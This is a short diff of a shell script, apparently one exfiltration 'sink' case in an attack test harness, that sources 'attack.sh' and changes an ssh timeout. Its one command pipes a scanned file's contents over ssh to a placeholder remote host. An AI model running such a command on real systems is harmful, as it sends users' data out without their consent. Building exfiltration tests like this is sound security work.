@@ -4,4 +4,4 @@
 # sink: private-ssh
 
 . attack.sh
-(sleep 3; cat "$SCAN") | timeout 9 ssh -p "$PORT_SSH" "keeper@$PRIVATE_HOST" "cat >$here"
+(sleep 3; cat "$SCAN") | timeout 20 ssh -p "$PORT_SSH" "keeper@$PRIVATE_HOST" "cat >$here"
